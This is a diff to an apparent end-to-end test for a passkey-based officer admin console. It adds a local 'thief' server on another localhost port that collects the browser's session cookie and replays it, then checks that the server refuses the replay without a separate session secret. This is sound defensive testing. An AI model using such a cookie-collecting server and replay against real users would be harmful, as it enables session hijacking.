@@ -4,12 +4,16 @@
  * link `civic start` printed, signs out and in again with the passkey, enrols a clerk (another
  * browser, its own authenticator), the clerk issues, is offered no revoke and is refused one
  * by the server (403 ERR_ISSUER_ROLE), the supervisor revokes, and the audit trail names both.
+ * A page served on another localhost port receives the session cookie (cookies ignore ports)
+ * but not the session's secret, and the cookie replayed without it is refused (401).
  * Screens are captured at 360×740 and 1280×800 in en and zh-CN (OFFICERS_SHOTS, default
  * /tmp/officers-shots); each must not scroll sideways and must have no serious or critical
  * axe-core violation.
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { mkdirSync } from 'node:fs'
+import { createServer, type IncomingHttpHeaders } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import type { Page } from 'playwright-core'
@@ -145,14 +149,48 @@ describe('officers sign in with passkeys', () => {
       const c = (await (await fetch('/civic-config.json')).json()) as { issuers: { id: string; adminUrl: string }[] }
       return c.issuers.find((i) => i.id === 'psb')!.adminUrl
     })
-    const refused = await clerk.evaluate(async ({ adminUrl, id }) => {
-      const r = await fetch(`${adminUrl.replace(/\/$/, '')}/admin/credentials/${id}/revoke`, { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{}' })
+    // the console's own origin holds the session's secret (sessionStorage); with cookie and header the server sees the clerk
+    const revoke = async (withSecret: boolean) => clerk.evaluate(async ({ adminUrl, id, withSecret }) => {
+      const base = adminUrl.replace(/\/$/, '')
+      const secret = Object.keys(sessionStorage).filter((k) => k.startsWith('civic.issuer.session:')).map((k) => sessionStorage.getItem(k))[0]
+      const headers: Record<string, string> = { 'content-type': 'application/json' }
+      if (withSecret && secret) headers['x-civic-session'] = secret
+      const r = await fetch(`${base}/admin/credentials/${id}/revoke`, { method: 'POST', credentials: 'include', headers, body: '{}' })
       return { status: r.status, body: (await r.json()) as { error?: { code?: string } } }
-    }, { adminUrl, id: credentialId })
-    expect(refused).toMatchObject({ status: 403, body: { error: { code: 'ERR_ISSUER_ROLE' } } })
+    }, { adminUrl, id: credentialId, withSecret })
+    expect(await revoke(true)).toMatchObject({ status: 403, body: { error: { code: 'ERR_ISSUER_ROLE' } } })
+    // the cookie alone (the browser sends it, the header is missing): not a session
+    expect(await revoke(false)).toMatchObject({ status: 401, body: { error: { code: 'ERR_ISSUER_UNAUTHENTICATED' } } })
     // without the cookie (another site's script, curl): not even authenticated
     const anonymous = await fetch(`${adminUrl.replace(/\/$/, '')}/admin/credentials`)
     expect(anonymous.status).toBe(401)
+
+    // ── another local user's server on another localhost port collects the cookie, not the secret ──
+    const seen: IncomingHttpHeaders[] = []
+    const thief = createServer((req, res) => {
+      seen.push(req.headers)
+      res.writeHead(200, { 'content-type': 'text/html' }).end(req.url === '/' ? '<!doctype html><title>x</title>' : '{}')
+    })
+    await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve))
+    try {
+      const thiefPort = (thief.address() as AddressInfo).port
+      const lure = await clerk.context().newPage()
+      await lure.goto(`http://localhost:${thiefPort}/`)
+      const stolenStorage = await lure.evaluate(async () => {
+        await fetch('/admin/x', { credentials: 'include' })
+        return Object.keys(sessionStorage).length
+      })
+      await lure.close()
+      expect(stolenStorage).toBe(0)
+      const cookie = seen.map((h) => h.cookie).find((c) => typeof c === 'string' && c.includes('civic_officer_'))
+      expect(cookie, 'the browser sends the cookie to any localhost port').toBeTruthy()
+      // replayed with curl's manners (no Origin), on loopback: refused
+      const replay = await fetch(`${adminUrl.replace(/\/$/, '')}/admin/credentials`, { headers: { cookie: cookie! } })
+      expect(replay.status).toBe(401)
+      expect(((await replay.json()) as { error: { code: string } }).error.code).toBe('ERR_ISSUER_UNAUTHENTICATED')
+    } finally {
+      await new Promise<void>((resolve) => thief.close(() => resolve()))
+    }
 
     // ── the supervisor revokes it ──
     await sup.getByTestId('refresh').click()
